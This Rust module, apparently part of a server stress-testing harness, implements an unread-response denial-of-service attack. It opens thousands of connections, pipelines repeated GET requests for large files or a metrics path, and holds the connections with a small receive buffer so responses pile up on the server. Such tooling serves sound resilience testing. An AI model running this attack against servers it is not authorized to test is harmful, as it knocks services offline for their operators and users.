//! Responses that the client does not read.

use std::io;

use super::super::attack_context::Context;
use super::{LARGEST_FILE, METRICS};

const CONNECTIONS: u64 = 2_000;
const CONNECTIONS_OF_OPERATORS: u64 = 200;
const OPENED_PER_SECOND: u64 = 500;
/// Number of requests that are sent on a connection without reading a response.
const REQUESTS: usize = 20;
/// Receive buffer of the attacker's socket, in bytes, so that most of the responses stay with the
/// server.
const BUFFER: u32 = 4_096;

pub(in super::super) fn rate() -> String {
    format!(
        "{CONNECTIONS} connections ({CONNECTIONS_OF_OPERATORS} at the operators') with {REQUESTS} \
         requests, {OPENED_PER_SECOND} opened a second"
    )
}

pub(in super::super) async fn begin(context: Context) {
    let count = context.either(CONNECTIONS, CONNECTIONS_OF_OPERATORS);
    context.lanes(count, OPENED_PER_SECOND, one).await;
}

async fn one(context: Context, _: u64) -> io::Result<()> {
    let mut peer = context.dial_with(Some(BUFFER)).await?;
    let path = context.either(LARGEST_FILE, METRICS);
    let request = format!("GET {path} HTTP/1.1\r\nhost: x\r\n\r\n");
    peer.send(request.repeat(REQUESTS).as_bytes()).await?;
    peer.stay().await;
    Ok(())
}
